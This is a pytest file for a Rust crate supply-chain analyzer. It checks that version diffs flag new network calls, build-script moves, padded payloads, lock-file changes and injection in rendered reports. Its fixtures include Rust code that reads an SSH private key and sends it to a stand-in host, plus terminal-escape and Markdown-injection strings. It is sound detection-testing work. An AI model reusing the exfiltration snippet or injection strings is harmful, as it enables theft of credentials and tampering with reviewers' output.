"""Two reports to a step: what counts as new, what moved, what is told beside."""

from __future__ import annotations

import io
import json
import re
import tarfile
from collections.abc import Mapping
from dataclasses import replace
from pathlib import Path

import jsonschema
import pytest

import analyzer.report
from analyzer.lockfile import read_lockfile
from analyzer.model import Context, CrateRef, CrateSource, Origin, Phase, Report, Verdict
from analyzer.pipeline import analyze
from analyzer.project import diff_html, diff_json, diff_markdown, diff_text
from analyzer.project.changes import CrateDiff, compare
from analyzer.project.lock_changes import LockDiff, judged, pairing
from analyzer.rules.ruleset import load_ruleset

RULESET = load_ruleset()
SCHEMA = json.loads((Path(analyzer.report.__path__[0]) / "schemas/diff-v1.json").read_text())
FETCHES = 'fn main() { std::net::TcpStream::connect("files.invalid:443").ok(); }\n'
SENDS = (
    'pub fn go() { let key = std::fs::read("/home/u/.ssh/id_rsa").unwrap();\n'
    ' std::io::Write::write_all(&mut std::net::TcpStream::connect("192.0.2.7:443").unwrap(), &key).ok(); }\n'
)


def report(
    files: Mapping[str, str], version: str, *, head: str = "", previous: Report | None = None
) -> Report:
    manifest = f'[package]\nname = "sample"\nversion = "{version}"\nedition = "2021"\n{head}'
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        for path, text in sorted({"src/lib.rs": "", **files, "Cargo.toml": manifest}.items()):
            member = tarfile.TarInfo(f"sample-{version}/{path}")
            member.size = len(text.encode())
            tar.addfile(member, io.BytesIO(text.encode()))
    data = buffer.getvalue()
    source = CrateSource(CrateRef("sample", version), "ab" * 32, data, Origin.FOLDER)
    return analyze(source, ruleset=RULESET, context=Context(previous=previous))


def step(
    old: Mapping[str, str], new: Mapping[str, str], version: str = "1.0.1", head: str = ""
) -> CrateDiff:
    before = report(old, "1.0.0")
    return compare(before, report(new, version, head=head, previous=before))


def test_what_the_old_version_did_as_well_is_told_and_does_not_count() -> None:
    found = step({"build.rs": FETCHES}, {"build.rs": f"// a comment more\n\n{FETCHES}"})

    assert (found.verdict, found.alone) == (Verdict.CLEAR, Verdict.REVIEW)
    assert [one.rule for one in found.same] == ["build-uses-network"]
    assert not found.added


def test_another_host_is_new_though_the_rule_held_before() -> None:
    found = step({"build.rs": FETCHES}, {"build.rs": FETCHES.replace("files", "evil")})

    assert found.verdict is Verdict.REVIEW
    assert [one.rule for one in found.added] == ["build-uses-network"]


def test_code_that_moves_to_another_file_is_not_new() -> None:
    old = {"src/lib.rs": SENDS}
    found = step(old, {"src/lib.rs": "pub mod inner;\n", "src/inner.rs": SENDS})

    assert not found.added
    assert not found.gained
    assert not found.values


def test_code_that_moves_to_the_build_script_is_new() -> None:
    found = step({"src/lib.rs": SENDS}, {"build.rs": SENDS.replace("pub fn go", "fn main")})

    assert found.verdict is Verdict.BLOCK


def test_a_payload_that_lay_unreached_is_new_when_a_module_names_it() -> None:
    asleep = {"src/lib.rs": "", "src/asleep.rs": SENDS}
    found = step(asleep, {**asleep, "src/lib.rs": "pub mod asleep;\n"})

    assert found.verdict is not Verdict.CLEAR
    moved = [one for one in found.files if one.path == "src/asleep.rs"]
    assert [one.phases for one in moved] == [(Phase.LIBRARY,)]


def test_padding_does_not_hide_what_is_new() -> None:
    many = "".join(f'pub fn f{n}() {{ std::fs::read("data/{n}").ok(); }}\n' for n in range(300))
    found = step({"src/lib.rs": many}, {"src/lib.rs": many + SENDS})

    assert found.verdict is not Verdict.CLEAR
    assert any(one.subject == "192.0.2.7:443" for one in found.values)


def test_files_are_told_by_what_they_run_in_and_moves_are_moves() -> None:
    found = step(
        {"build.rs": "fn main() {}\n", "src/a.rs": "pub fn a() {}\n", "notes.md": "x"},
        {"build.rs": "fn main() { }\n", "src/b.rs": "pub fn a() {}\n"},
    )

    changes = [(one.path, one.change, one.before) for one in found.files]
    assert changes[0] == ("build.rs", "changed", "")
    assert ("src/b.rs", "moved", "src/a.rs") in changes
    assert ("notes.md", "removed", "") in changes


def test_who_owns_it_is_compared() -> None:
    found = step({}, {}, head='repository = "https://git.invalid/other"\n')

    assert [(one.key, one.after) for one in found.fields] == [
        ("repository", "https://git.invalid/other")
    ]


def test_an_old_version_that_could_not_be_read_makes_everything_new() -> None:
    before = replace(report({"build.rs": FETCHES}, "1.0.0"), facts=(), files=(), findings=())
    found = compare(before, report({"build.rs": FETCHES}, "1.0.1", previous=before))

    assert found.verdict is Verdict.REVIEW
    assert any("everything counts as new" in one.reason for one in found.gaps)


def test_the_json_fits_its_schema_and_is_ascii() -> None:
    validator = jsonschema.Draft202012Validator(SCHEMA)
    found = step({}, {"build.rs": FETCHES, "src/\u202e.rs": ""})

    text = diff_json.render(found)

    assert text.isascii()
    validator.validate(json.loads(text))


def test_hostile_text_reaches_no_terminal() -> None:
    evil = (
        'fn main() { std::net::TcpStream::connect("\x1b[2J[red]x\\u{202e}.invalid:443").ok(); }\n'
    )
    text = diff_text.render(step({}, {"build.rs": evil}, head='repository = "\\u001b[2J"\n'))

    assert "\x1b" not in text
    assert "\u202e" not in text


# Lock files --------------------------------------------------------------------------------------


def lock(*packages: str, path: str = "Cargo.lock") -> object:
    rows = ["version = 4\n"]
    for one in packages:
        name, version, checksum = (*one.split(), "aa")[:3]
        rows.append(
            f'[[package]]\nname = "{name}"\nversion = "{version}"\n'
            f'source = "registry+https://index.invalid"\nchecksum = "{checksum * 32}"\n'
        )
    return read_lockfile("\n".join(rows).encode(), path=path)


def paired(old: object, new: object) -> list[tuple[str, str]]:
    changes = pairing(old, new)  # type: ignore[arg-type]  # lock files
    return [
        (one.old.version if one.old else "", one.new.version if one.new else "") for one in changes
    ]


@pytest.mark.parametrize(
    ("old", "new", "pairs"),
    [
        (("a 1.0.0",), ("a 1.1.0",), [("1.0.0", "1.1.0")]),
        (("a 1.0.0", "a 2.0.0"), ("a 1.0.0", "a 2.1.0"), [("2.0.0", "2.1.0")]),
        (("a 1.0.0",), ("a 1.0.0", "a 2.0.0"), [("1.0.0", "2.0.0")]),
        (("a 2.0.0",), ("a 1.0.0",), [("2.0.0", "1.0.0")]),
        (("a 1.0.0",), ("b 1.0.0",), [("1.0.0", ""), ("", "1.0.0")]),
        (("a 1.0.0 aa",), ("a 1.0.0 bb",), [("1.0.0", "1.0.0")]),
        (("a 1.0.0", "a 1.0.0"), ("a 1.0.0",), []),
    ],
)
def test_packages_are_paired_with_what_is_closest_before(
    old: tuple[str, ...], new: tuple[str, ...], pairs: list[tuple[str, str]]
) -> None:
    assert paired(lock(*old), lock(*new)) == pairs


def test_ten_thousand_packages_are_paired_at_once() -> None:
    old = lock(*(f"p{n} 1.0.0" for n in range(10_000)))
    new = lock(*(f"p{n} 1.0.{n % 2}" for n in range(10_000)))

    changes = pairing(old, new)  # type: ignore[arg-type]  # lock files
    found = judged(old, new, changes, {})  # type: ignore[arg-type]  # lock files

    assert len(changes) == len(found.packages) == 5_000
    assert found.verdict is Verdict.INCOMPLETE
    jsonschema.Draft202012Validator(SCHEMA).validate(json.loads(diff_json.render(found)))
    assert len(diff_text.render(found).splitlines()) < 6_000


def locked(source: str, checksum: str = "", version: str = "1.0.0", name: str = "a") -> object:
    rows = f'[[package]]\nname = "{name}"\nversion = "{version}"\n'
    rows += f'source = "{source}"\n' if source else ""
    rows += f'checksum = "{checksum}"\n' if checksum else ""
    return read_lockfile(f"version = 4\n{rows}".encode(), path="Cargo.lock")


def both(old: object, new: object) -> LockDiff:
    changes = pairing(old, new)  # type: ignore[arg-type]  # lock files
    return judged(old, new, changes, {})  # type: ignore[arg-type]  # lock files


def test_another_commit_of_a_git_package_is_a_change() -> None:
    source = "git+https://git.invalid/a#"

    assert both(locked(f"{source}aa"), locked(f"{source}bb")).verdict is Verdict.INCOMPLETE
    assert both(locked(f"{source}aa"), locked(f"{source}aa")).verdict is Verdict.CLEAR


def test_a_checksum_that_is_gone_asks_for_a_review() -> None:
    source = "registry+https://index.invalid"

    assert both(locked(source, "aa"), locked(source)).verdict is Verdict.REVIEW


def test_a_path_that_takes_the_place_of_a_registry_is_unread() -> None:
    found = both(locked("registry+https://index.invalid", "aa"), locked(""))

    assert found.verdict is Verdict.INCOMPLETE
    assert any("now taken from a path" in one.reason for one in found.gaps)
    assert both(locked(""), locked("")).verdict is Verdict.CLEAR


# What an attacker who reads this would try ---------------------------------------------------------


def connects(*hosts: str, glue: str = "\n") -> dict[str, str]:
    calls = glue.join(f'    std::net::TcpStream::connect("{one}:443").ok();' for one in hosts)
    return {"build.rs": f"fn main() {{\n{calls}\n}}\n"}


def test_honest_evidence_does_not_crowd_out_what_is_put_behind_it() -> None:
    many = [f"files{number}.invalid" for number in range(40)]
    found = step(connects(*many), connects(*many, "zz-evil.invalid"))

    assert found.verdict is Verdict.REVIEW


def test_a_second_call_on_an_honest_line_is_new() -> None:
    found = step(connects("files.invalid"), connects("files.invalid", "evil.invalid", glue=" "))

    assert found.verdict is Verdict.REVIEW


def test_a_host_that_was_honest_makes_no_theft_to_it_old() -> None:
    told = 'pub fn stats() { std::net::TcpStream::connect("192.0.2.7:443").ok(); }\n'
    found = step({"src/lib.rs": told}, {"src/lib.rs": told + SENDS})

    assert found.verdict is Verdict.BLOCK


def test_padding_a_line_does_not_hide_what_changes_at_its_end() -> None:
    pad = "/*" + "x" * 400 + "*/"
    old = {
        "build.rs": f"fn main() {{ let a = 1; {pad} go(a) }}\nfn go(p: u8) {{ {pad} run(one(p)) }}\n"
    }
    line = "fn run(p: String) { " + pad + " std::process::Command::new(%s).status().ok(); }\n"
    found = step(
        {"build.rs": old["build.rs"] + line % "honest(p)"},
        {"build.rs": old["build.rs"] + line % "other(p)"},
    )

    assert [one.kind for one in found.values if one.kind == "process.spawn"]


def test_a_dependency_that_tests_had_is_new_when_it_ships() -> None:
    dev = '[dev-dependencies]\ncarrier = "1"\n'
    before = report({}, "1.0.0", head=dev)
    after = report({}, "1.0.1", head=dev.replace("dev-", ""), previous=before)

    changes = [(one.change, one.kind) for one in compare(before, after).dependencies]
    assert ("added", "normal") in changes


def test_a_comment_on_a_pull_request_cannot_be_written_by_the_crate() -> None:
    evil = 'fn main() { std::net::TcpStream::connect("![x](https://evil.invalid)<b>@all #1|:443").ok(); }\n'
    text = diff_markdown.render(step({}, {"build.rs": evil}))

    assert text.startswith("<!-- cratescope diff -->\n### ") or "\n#### " in text
    assert "build&#45;script" in text
    for one in ("![", "](", "<b>", "@all", " #1", "https://", "\x1b"):
        assert one not in text.partition("\n")[2]


def test_a_comment_stays_within_what_a_forge_takes() -> None:
    old = lock()
    new = lock(*(f"p{n} 1.0.0" for n in range(5_000)))
    text = diff_markdown.render(both(old, new))

    assert len(text) < 65_536
    assert "more" in text


# A page -------------------------------------------------------------------------------------------


def test_a_page_says_what_is_new_with_its_line() -> None:
    found = step({"build.rs": "fn main() {}\n"}, {"build.rs": FETCHES})
    page = diff_html.render(found)

    assert "sample 1.0.0 → 1.0.1" in page
    assert 'id="f1-e1"' in page
    assert "files.invalid:443" in page
    assert page.index("New findings") < page.index("Capabilities") < page.index("Not looked at")


def test_a_page_says_what_held_before_and_does_not_show_it_as_new() -> None:
    files = {"build.rs": FETCHES}
    page = diff_html.render(step(files, files))

    assert "New findings" not in page
    assert "As before: " in page


def test_a_page_of_lock_files_tells_of_each_package_that_is_not_clear() -> None:
    page = diff_html.render(both(lock("a 1.0.0", "b 1.0.0"), lock("a 1.1.0")))

    assert "2 packages differ" in page
    assert "1 changed" in re.sub("<[^>]*>", "", page)
    assert page.count('class="crate"') == 1
    assert 'href="#p1-top"' in page


def test_a_page_of_many_packages_says_what_it_leaves_out() -> None:
    page = diff_html.render(both(lock(), lock(*(f"p{n} 1.0.0" for n in range(500)))))

    assert f"{500 - diff_html.ROWS_SHOWN} more packages are not on this page" in page
